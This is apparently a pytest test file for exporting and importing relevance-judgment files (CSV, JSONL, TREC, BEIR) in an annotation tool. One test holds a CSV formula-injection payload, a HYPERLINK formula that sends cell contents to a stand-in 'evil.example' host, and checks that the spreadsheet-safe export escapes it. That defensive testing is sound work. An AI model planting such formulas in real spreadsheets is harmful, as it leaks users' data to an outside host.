"""Judgments out as files and in again: exact, once, and never half of a broken file."""

from __future__ import annotations

import csv
import json
import shutil
from dataclasses import replace

import pytest

from engine.collections import judgment_formats
from engine.collections.readers import read_collection
from engine.errors import BadInputError, UnknownNameError
from engine.types.annotating import BINARY, GRADED, Judgment, Project, Scale
from engine.types.corpora import ImportRequest
from engine.types.searches import Query
from pages._annotate.exchange_files import packed
from tests.fakes.csfcube_files import GOOD, METHOD, qrels
from tests.fakes.small_corpus import DOCUMENTS
from tests.support import make_explorer, write_jsonl

ANY = "bread-survey_any"


@pytest.fixture(scope="module")
def judged_home(small_home, tmp_path_factory):
    """A home with a project ``p``: everything that a judgment can have, and an undo."""
    home = tmp_path_factory.mktemp("judged") / "home"
    shutil.copytree(small_home, home)
    annotation = make_explorer(home).annotation
    project = annotation.save(
        Project("small", "p", {"": "Read **all**."}, leads=("lead",), per_item=2), "lead"
    )
    own = Query("small", seed="maps-survey", instruction="The same kind of map")
    seeds = {
        METHOD: Query("small", seed="bees-network", aspect="method"),
        ANY: Query("small", seed="bread-survey"),
    }
    annotation.add_queries(project, {**seeds, "own": own})
    judge = annotation.judge
    note = 'He said "no",\nthen =1+1; <b>éß🐝</b>'
    marks = ((0, 5), (7, 9))
    judge(project, Judgment(METHOD, "bread-network", "ann", 3, note=note, marks=marks))
    judge(project, Judgment(METHOD, "bread-network", "bob B.", 1, seconds=1.25))
    judge(project, Judgment(METHOD, "maps-survey", "bob B.", verdict="skip"))
    judge(project, Judgment(ANY, "maps-survey", "ann", verdict="unsure", note="?"))
    judge(project, Judgment("own", "bread-network", "ann", 2))
    judge(project, Judgment("own", "tides-network", "ann", 0))
    annotation.undo(project, "ann")
    judge(project, Judgment("own", "tides-network", "ann", 2))
    annotation.adjudicate(project, METHOD, "bread-network", 2, "between them", "lead")
    return home


@pytest.fixture
def judged(judged_home, home):
    """An explorer over a copy of that home."""
    shutil.copytree(judged_home, home)
    return make_explorer(home)


@pytest.fixture
def other(small_home, tmp_path):
    """Another home with the same corpus, and a project ``p`` of the same queries."""
    shutil.copytree(small_home, tmp_path / "other")
    return make_explorer(tmp_path / "other")


def empty_project(explorer, like):
    annotation = explorer.annotation
    project = annotation.save(like.annotation.project("small", "p"), "lead")
    queries = like.annotation.queries(project)
    annotation.add_queries(project, queries)
    return project


def write(explorer, project, out, kind, **options):
    annotation = explorer.annotation
    annotation.exchange.export(project, kind, **options).write(out)
    return out


def handed_over(judged, folder):
    """All that "ann" did until now, as one file."""
    project = judged.annotation.project("small", "p")
    return write(judged, project, folder / "ann.jsonl", "hand-over", annotator="ann")


def contents(folder):
    return {p.name: p.read_text("utf-8") for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_all_annotators_in_one_file_come_back_exactly_and_once(judged, other, tmp_path, kind):
    project = judged.annotation.project("small", "p")
    file = write(judged, project, tmp_path / f"a.{kind}", kind, per_annotator=True)
    empty_project(other, judged)
    first = other.annotation.exchange.import_("small", file, "p", annotator="nobody of these")
    assert (first.added, first.known, first.conflicts) == (7, 0, ())
    assert other.annotation.judgments(project) == judged.annotation.judgments(project)
    again = other.annotation.exchange.import_("small", file, "p")
    assert (again.added, again.known) == (0, 7)
    back = write(other, project, tmp_path / f"b.{kind}", kind, per_annotator=True)
    assert back.read_text("utf-8") == file.read_text("utf-8")


def test_a_note_is_no_formula_in_the_csv_for_spreadsheets(judged, tmp_path):
    project = judged.annotation.project("small", "p")
    formula = '=HYPERLINK("https://evil.example?"&A1)'
    judged.annotation.judge(project, Judgment("own", "tides-network", "eve", 1, note=formula))
    options = {"per_annotator": True}
    plain = write(judged, project, tmp_path / "a.csv", "csv", **options)
    safe = write(judged, project, tmp_path / "b.csv", "csv", **options, spreadsheet=True)
    notes = [[row["note"] for row in csv.DictReader(f.open(newline=""))] for f in (plain, safe)]
    assert formula in notes[0]
    assert [note for note in notes[1] if note.startswith(tuple("=+-@"))] == []
    assert f"'{formula}" in notes[1]


def test_a_hand_over_makes_the_project_elsewhere_with_the_judgments_of_one_annotator(
    judged, other, tmp_path
):
    project = judged.annotation.project("small", "p")
    file = handed_over(judged, tmp_path)
    found = other.annotation.exchange.import_("small", file)
    assert (found.added, found.warnings) == (4, ())
    assert other.annotation.project("small", "p") == project
    assert other.annotation.queries(project) == judged.annotation.queries(project)
    assert other.annotation.judgments(project) == judged.annotation.judgments(
        project, annotator="ann"
    )
    assert other.annotation.exchange.import_("small", file).added == 0
    assert other.annotation.exchange.import_("small", file, "copy").added == 4, "and in another one"


@pytest.mark.parametrize("kind", ["csv", "jsonl", "beir"])
def test_adjudicated_grades_come_back_as_whose_they_were(judged, other, tmp_path, kind):
    project = judged.annotation.project("small", "p")
    judged.annotation.judge(project, Judgment("own", "bread-network", "bob B.", 2))
    exported = judged.annotation.exchange.export(project, kind)
    name, content = packed(exported.held(), "p.zip")
    (tmp_path / name).write_bytes(content)
    empty_project(other, judged)
    other.annotation.exchange.import_("small", tmp_path / name, "p", annotator="importer")
    back = {(j.item, j.annotator): j for j in other.annotation.judgments(project)}
    agreed = ("own", "bread-network")
    assert back.keys() == {
        ((METHOD, "bread-network"), "lead"), (agreed, "ann"), (agreed, "bob B."),
        (("own", "tides-network"), "ann"),
    }  # fmt: skip
    decision = back[(METHOD, "bread-network"), "lead"]
    assert (decision.origin, decision.note) == ("adjudication", "between them")
    grades = [e.annotation.exchange.qrels(project).grades for e in (judged, other)]
    assert grades[0] == grades[1]


@pytest.mark.parametrize(("kind", "whose"), [("trec", {}), ("jsonl", {"per_annotator": True})])
def test_decisions_without_grades_of_annotators_are_exported(judged, other, tmp_path, kind, whose):
    project = judged.annotation.project("small", "p")
    project = judged.annotation.copy(project, "decided", "lead")
    (tmp_path / "in.qrels").write_text(f"{METHOD} 0 bread-network 2\n")
    take = {"annotator": "lead", "adjudicated": True}
    judged.annotation.exchange.import_("small", tmp_path / "in.qrels", "decided", **take)
    exported = judged.annotation.exchange.export(project, kind, **whose)
    assert exported.judgments == 1
    name, content = packed(exported.held(), "p.zip")
    (tmp_path / name).write_bytes(content)
    back = empty_project(other, judged)
    other.annotation.exchange.import_("small", tmp_path / name, "p", **take)
    (decision,) = other.annotation.judgments(back)
    assert (decision.origin, decision.annotator, decision.relevance) == ("adjudication", "lead", 2)


def test_a_beir_folder_is_a_collection_with_its_documents(judged, tmp_path):
    out = write(judged, judged.annotation.project("small", "p"), tmp_path / "beir", "beir")
    collection = read_collection(out)
    assert collection.qrels[METHOD] == {"bread-network": 2}
    assert len((out / "corpus.jsonl").read_text("utf-8").splitlines()) == 40
    query = json.loads((out / "queries.jsonl").read_text("utf-8").splitlines()[0])
    assert query["metadata"] == {"seed": "bees-network", "aspect": "method"}


def test_a_beir_folder_has_the_grades_of_a_query_whose_seed_has_left_the_corpus(judged, tmp_path):
    left = [one for one in DOCUMENTS if one["doc_id"] != "bees-network"]
    judged.library.delete("small")
    source = write_jsonl(tmp_path / "left.jsonl", left)
    judged.library.import_documents(ImportRequest(source, "small"))
    project, out = judged.annotation.project("small", "p"), tmp_path / "beir"
    exported = judged.annotation.exchange.export(project, "beir")
    exported.write(out)
    assert [note for note in exported.notes if "seed" in note] == [
        f"1 query has no text, as the seed is not in the corpus 'small' any more: {METHOD}."
    ]
    queries = map(json.loads, (out / "queries.jsonl").read_text("utf-8").splitlines())
    texts = {query["_id"]: query["text"] for query in queries}
    assert (texts[METHOD], texts["own"][:4]) == ("", "Maps")
    assert f"{METHOD}\tbread-network" in (out / "qrels" / "test.tsv").read_text("utf-8")
    read = read_collection(out)
    assert METHOD not in {topic.query_id for topic in read.topics}
    assert "is not among those asked" in " ".join(read.warnings), "the others can be read"


def test_a_file_per_annotator_says_what_it_has_no_place_for(judged, tmp_path):
    annotation = judged.annotation
    found = annotation.exchange.export(annotation.project("small", "p"), "trec", per_annotator=True)
    (tmp_path / "out").mkdir()
    assert [p.name for p in found.write(tmp_path / "out")] == [
        "p.ann.qrels",
        "p.bob-B.qrels",
    ]
    assert contents(tmp_path / "out")["p.bob-B.qrels"] == f"{METHOD} 0 bread-network 1\n"
    assert any("2 skips and unsure verdicts" in note for note in found.notes)


def test_of_two_lines_about_an_item_the_last_one_counts(judged, other, tmp_path):
    project = judged.annotation.project("small", "p")
    file = write(judged, project, tmp_path / "a.jsonl", "jsonl", annotator="bob B.")
    lines = file.read_text("utf-8").splitlines()
    empty_project(other, judged)
    copied = json.dumps({**json.loads(lines[0]), "relevance": 3})
    file.write_text("\n".join([*lines, copied]), "utf-8")
    found = other.annotation.exchange.import_("small", file, "p")
    assert (found.added, found.conflicts) == (2, ())
    assert found.warnings == (
        "1 line differs from one before about the same item; the last one counts (first: line 3).",
    )
    said = {j.doc_id: j.relevance for j in other.annotation.judgments(project, METHOD, "bob B.")}
    assert said["bread-network"] == 3


def test_a_file_must_fit_the_project_it_goes_into(judged, tmp_path):
    annotation = judged.annotation
    project = annotation.project("small", "p")
    file = write(judged, project, tmp_path / "a.jsonl", "jsonl", per_annotator=True)
    annotation.save(Project("small", "two", scale=BINARY, annotators=("ann",)), "ann")
    with pytest.raises(BadInputError) as caught:
        annotation.exchange.import_("small", file, "two")
    for words in ("Grades are 0, 1", "'bob B.' is not among", "'own' names no seed"):
        assert words in str(caught.value)
    with pytest.raises(UnknownNameError, match="no project 'three'"):
        annotation.exchange.import_("small", qrels(tmp_path, GOOD), "three", annotator="x")


def test_what_cannot_be_exported_says_why(judged, tmp_path):
    annotation = judged.annotation
    with pytest.raises(BadInputError, match="no grades to export"):
        annotation.exchange.export(annotation.project("small"))
    project = annotation.project("small", "p")
    with pytest.raises(UnknownNameError, match=r"'eve' has judged nothing.*ann, bob B."):
        annotation.exchange.export(project, "hand-over", annotator="eve")
    with pytest.raises(UnknownNameError, match="no format 'xml'"):
        annotation.exchange.export(project, "xml")
    found = annotation.exchange.export(project)
    (tmp_path / "file").write_text("in the way")
    with pytest.raises(BadInputError, match=r"cannot be written.*--out"):
        found.write(tmp_path / "file" / "q.qrels")
    assert (tmp_path / "file").read_text() == "in the way"
    annotation.add_queries(project, {"my query": Query("small", seed="bees-network")})
    annotation.judge(project, Judgment("my query", "bread-network", "ann", 1))
    with pytest.raises(BadInputError, match=r"'my query' holds white space.*csv or jsonl"):
        "".join(next(iter(annotation.exchange.export(project, "trec").files.values())))


def beir_folder(folder, text, **about):
    """A document judged for the query ``1``, which asks for a text."""
    (folder / "qrels").mkdir(parents=True)
    (folder / "qrels" / "test.tsv").write_text(
        "query-id\tcorpus-id\tscore\n1\tbread-network\t2\n", "utf-8"
    )
    write_jsonl(folder / "queries.jsonl", [{"_id": "1", "text": text, **about}])
    return folder


def test_grades_for_another_query_of_the_same_id_are_refused(small_copy, tmp_path):
    annotation = small_copy.annotation
    first = beir_folder(tmp_path / "first", "How does a loaf rise?", instruction="with yeast")
    assert annotation.exchange.import_("small", first, annotator="ann").added == 1
    (query,) = annotation.queries(annotation.project("small")).values()
    assert (query.text, query.instruction) == ("How does a loaf rise?", "with yeast")
    other = beir_folder(tmp_path / "other", "When does the tide turn?")
    with pytest.raises(BadInputError, match=r"line 2: Query '1' asks for something else here"):
        annotation.exchange.import_("small", other, annotator="bob")
    same = beir_folder(tmp_path / "same", "How does a  loaf rise?", instruction="with yeast")
    assert annotation.exchange.import_("small", same, annotator="cy").added == 1
    said = annotation.judgments(annotation.project("small"))
    assert [one.annotator for one in said] == ["ann", "cy"]


def test_files_that_are_too_large_for_a_page_are_refused_before_they_fill_the_memory(
    judged, monkeypatch
):
    monkeypatch.setattr(judgment_formats, "EXPORT_BYTES", 5_000)
    project = judged.annotation.project("small", "p")
    exported = judged.annotation.exchange.export(project, "beir")
    with pytest.raises(BadInputError, match="seedlens qrels export"):
        exported.held()
    (content,) = judged.annotation.exchange.export(project, "trec").held().values()
    assert content.startswith(METHOD.encode())


@pytest.fixture
def project(small_copy):
    """A project ``p`` in which ann said why a document is relevant."""
    annotation = small_copy.annotation
    project = annotation.save(Project("small", "p"), "lead")
    annotation.add_queries(project, [Query("small", seed="bees-network", aspect="method")])
    annotation.judge(
        project,
        Judgment(METHOD, "bread-network", "ann", 3, note="why", marks=((0, 9),), seconds=4.5),
    )
    return project


def written(explorer, project, out, kind="hand-over"):
    """Everything by ann as a file, or as the one that ann's grades are in."""
    annotation = explorer.annotation
    (path, *_) = annotation.exchange.export(project, kind, annotator="ann").write(out)
    return path


def test_importing_qrels_twice_changes_nothing_and_registers_their_queries(small_copy, tmp_path):
    annotation = small_copy.annotation
    file = qrels(tmp_path, GOOD)
    first, second = (annotation.exchange.import_("small", file, annotator="x") for _ in range(2))
    assert (first.added, second.added, second.known) == (2, 0, 2)
    project = annotation.project("small")
    assert list(annotation.queries(project)) == [METHOD]
    assert len(annotation.history(project)) == 2
    assert {j.origin for j in annotation.judgments(project)} == {"import"}


LINE = {"query_id": METHOD, "doc_id": "bread-network", "relevance": 3, "annotator": "ann"}
SAID = "of 'bread-network' for 'bees-network_method' here, and"
DECISION = {"relevance": 0, "annotator": "eve", "note": "no"}


@pytest.mark.parametrize(
    ("line", "undone", "options", "says"),
    [
        ({"relevance": 1}, False, {}, f"ann said 3 {SAID} 1"),
        ({"note": "because"}, False, {}, f"ann said 3 {SAID} the same with another note or other"),
        ({}, True, {}, f"ann took back what was said {SAID} 3"),
        (DECISION, False, {"adjudicated": True}, f"bob said 2 {SAID} 0"),
        (DECISION | {"origin": "adjudication", "event": "e"}, False, {}, f"bob said 2 {SAID} 0"),
    ],
    ids=["grade", "note", "taken back", "decision", "decision with its event"],
)
def test_what_differs_from_the_stored_is_a_conflict_until_the_file_is_to_win(
    small_copy, project, tmp_path, line, undone, options, says
):
    annotation = small_copy.annotation
    annotation.adjudicate(project, METHOD, "bread-network", 2, "as agreed", "bob")
    if undone:
        annotation.undo(project, "ann")
    line = {**LINE, **line}
    file, before = qrels(tmp_path, json.dumps(line), "a.jsonl"), annotation.history(project)

    def imported(*, overwrite):
        return annotation.exchange.import_("small", file, "p", overwrite=overwrite, **options)

    for _ in range(2):
        kept = imported(overwrite=False)
        assert (kept.added, kept.known, len(kept.conflicts)) == (0, 0, 1)
        assert kept.conflicts[0].startswith(f"Line 1: {says}")
        assert kept.conflicts[0].endswith("in the file; what is here stays.")
    assert annotation.history(project) == before
    forced = imported(overwrite=True)
    assert forced.added == 1
    assert forced.conflicts[0].endswith("in the file; the file's counts now.")
    now = annotation.history(project)[-1]
    assert (now.annotator, now.relevance) == (line["annotator"], line["relevance"])
    assert now in annotation.judgments(project)
    again = imported(overwrite=True)
    assert (again.added, again.known, again.conflicts) == (0, 1, ())


@pytest.mark.parametrize("kind", ["trec", "beir"])
def test_one_s_own_grades_come_back_without_a_change_to_notes_and_marks(
    small_copy, project, tmp_path, kind
):
    annotation = small_copy.annotation
    before = annotation.judgments(project)
    (tmp_path / "out").mkdir()
    file = written(small_copy, project, tmp_path / "out", kind)
    found = annotation.exchange.import_("small", file, "p", annotator="ann")
    assert (found.added, found.known, found.conflicts) == (0, 1, ())
    assert annotation.judgments(project) == before


def test_a_seed_that_a_file_grades_for_its_own_query_is_left_out(small_copy, tmp_path):
    annotation = small_copy.annotation
    file = qrels(tmp_path, f"{METHOD} 0 bees-network 3\n{GOOD}")
    found = annotation.exchange.import_("small", file, annotator="x")
    assert found.added == 2
    assert "1 judgment is of the query's own seed" in found.warnings[0]
    assert (
        "bees-network" not in annotation.exchange.qrels(annotation.project("small")).grades[METHOD]
    )


def test_a_trial_refuses_what_an_import_refuses_and_waits_for_nobody(
    small_copy, project, tmp_path, monkeypatch
):
    annotation = small_copy.annotation
    file = written(small_copy, project, tmp_path)
    (head, query, *events) = file.read_text("utf-8").splitlines()
    query = query.replace('"bees-network"', '"nowhere"')
    wrong = qrels(tmp_path, "\n".join([head, query, *events]), "wrong.jsonl")
    for dry_run in (True, False):
        with pytest.raises((BadInputError, UnknownNameError)):
            annotation.exchange.import_("small", wrong, "other", dry_run=dry_run)
    monkeypatch.setattr(small_copy.ledger.judging, "change", None)
    assert annotation.exchange.import_("small", file, "p", dry_run=True).known == 1


def test_a_scale_must_have_the_grades_that_stand(small_copy, project):
    annotation = small_copy.annotation
    annotation.judge(project, Judgment(METHOD, "maps-survey", "ann", 2))
    annotation.judge(project, Judgment(METHOD, "tides-network", "ann", 1))
    lacking = r"2 grades stand that the scale 'binary' does not have: 2 \(1\), 3 \(1\)"
    with pytest.raises(BadInputError, match=lacking):
        annotation.save(replace(project, scale=BINARY), "lead")
    assert annotation.project("small", "p") == project
    for _ in range(3):
        annotation.undo(project, "ann")
    assert annotation.save(replace(project, scale=BINARY), "lead").scale == BINARY
    wider = Scale("wide", GRADED.grades)
    assert annotation.save(replace(project, scale=wider), "lead").scale == wider


def test_grades_of_other_programs_come_in_and_spam_is_not_relevant(small_copy, tmp_path):
    exchange = small_copy.annotation.exchange
    grades = {"bread-network": ("label", "2.0"), "maps-survey": ("rel", "-1")}
    for doc_id, (name, grade) in grades.items():
        head = f"qid,docid,{name},annotator,annotators,by,basis"
        table = f"{head}\n{METHOD},{doc_id},{grade},r9,3,,vote\n"
        assert exchange.import_("small", qrels(tmp_path, table, "judged.csv")).added == 1
    decided = exchange.qrels(small_copy.annotation.project("small"))
    assert decided.grades == {METHOD: {"bread-network": 2, "maps-survey": 0}}


HEAD = "query_id,doc_id,relevance,annotator,note,time,marks\n"
ROW = f"{METHOD},bread-network"
BROKEN: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "too few columns": ("a.qrels", GOOD + f"{METHOD} 0 bread-network\n", ("line 3", "3 columns")),
    "grade in words": (
        "a.qrels",
        f"{METHOD} 0 a good\n{METHOD} 0 b 1.5\n" + GOOD,
        ("2 lines", "line 1", "'good'", "line 2", "'1.5'"),
    ),
    "grade outside the scale": ("a.qrels", GOOD + f"{METHOD} 0 twin-a 4\n", ("line 3", "0, 1, 2")),
    "half a grade": ("a.qrels", f"{METHOD} 0 twin-a 1.5\n", ("line 1", "'1.5'")),
    "unknown query": ("a.qrels", "bees_colour 0 twin-a 1\n", ("line 1", "'bees_colour'")),
    "unknown document": ("a.qrels", f"{METHOD} 0 nobody 1\n", ("line 1", "'nobody'")),
    "nothing": ("a.qrels", "\n\n", ("no judgments",)),
    "no header": ("a.csv", f"{ROW},1,ann\n", ("line 1", "4 of 'query_id")),
    "empty annotator": ("a.csv", f"{HEAD}{ROW},1,  ,,,\n", ("line 2", "no name")),
    "annotator who is none": ("a.csv", f"{HEAD}{ROW},1,adjudicated,,,\n", ("own",)),
    "long note": ("a.csv", f"{HEAD}{ROW},1,ann,{'x' * 90_000},,\n", ("line 2", "90,000")),
    "a time that is none": ("a.csv", f"{HEAD}{ROW},1,ann,,soon,\n", ("line 2", "'soon'")),
    "marks that are none": ("a.csv", f"{HEAD}{ROW},1,ann,,,[[9]]\n", ("line 2", "marks")),
    "no grade": ("a.csv", f"{HEAD}{ROW},,ann,,,\n", ("line 2", "no relevance")),
    "broken JSON": ("a.jsonl", '{"query_id": "x"}\n{"query', ("line 1", "line 2", "JSON object")),
    "rank that is none": (
        "a.jsonl",
        f'{{"query_id": "{METHOD}", "doc_id": "emoji", "relevance": 1, "annotator": "x", '
        '"seconds": NaN}',
        ("line 1", "seconds 'nan'"),
    ),
    "half a character in a name": (
        "a.jsonl",
        f'{{"query_id": "{METHOD}", "doc_id": "emoji", "relevance": 1, "annotator": "a\\ud800"}}',
        ("line 1", "The annotator", "half a character"),
    ),
    "true for a grade": (
        "a.jsonl",
        f'{{"query_id": "{METHOD}", "doc_id": "emoji", "relevance": true, "annotator": "x"}}',
        ("line 1", "'True'", "not a whole number"),
    ),
    "JSON without an end": ("a.jsonl", "[" * 100_000, ("line 1", "JSON object")),
    "control characters in a name": (
        "a.csv",
        f"{HEAD}{ROW},1,a\x1bnn,,,\n",
        ("line 2", "control characters"),
    ),
    "no list": ("a.jsonl", "[1, 2]\n", ("line 1", "JSON object")),
}


@pytest.mark.parametrize(("name", "text", "says"), BROKEN.values(), ids=BROKEN)
def test_a_file_with_a_broken_line_imports_nothing_and_lists_the_lines(
    small, tmp_path, name, text, says
):
    annotation = small.annotation
    annotator = "x" if name.endswith(("qrels", "tsv")) else ""
    with pytest.raises(BadInputError) as caught:
        annotation.exchange.import_("small", qrels(tmp_path, text, name), annotator=annotator)
    for words in (name, *says):
        assert words in str(caught.value)
    project = annotation.project("small")
    assert (annotation.history(project), annotation.queries(project)) == ([], {})
